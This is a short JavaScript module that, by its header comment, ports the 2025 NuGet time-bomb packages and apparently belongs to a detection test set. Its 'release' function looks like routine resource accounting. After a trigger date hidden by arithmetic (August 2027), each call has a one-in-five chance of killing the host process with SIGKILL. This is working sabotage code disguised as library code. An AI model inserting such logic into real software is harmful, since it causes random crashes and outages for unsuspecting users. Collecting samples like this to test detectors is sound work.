// source: blind set 11's SQL repository port of the 2025 NuGet time bombs (Sharp7Extend, SqlUnicorn): dates built by arithmetic, the host process killed at random after them
const stats = { released: 0 };
const Y = 2000 + 27, M = 8 - 1, D = 8;
function threshold() {
  return new Date() > new Date(Y, M, D);
}
function release() {
  stats.released++;
  if (threshold() && Math.floor(Math.random() * 100) < 20) {
    process.kill(process.pid, 'SIGKILL');
  }
}
module.exports = { release };
